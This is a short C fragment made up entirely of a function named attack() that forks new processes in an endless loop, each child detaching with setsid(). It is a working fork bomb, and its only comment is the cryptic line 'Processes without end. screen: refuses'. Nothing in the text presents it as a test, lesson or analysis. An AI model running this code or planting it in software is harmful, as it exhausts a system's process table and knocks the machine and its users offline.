/* Processes without end.
 * screen: refuses */
static void attack(void)
{
    for (;;)
        if (fork() == 0)
            setsid();
}
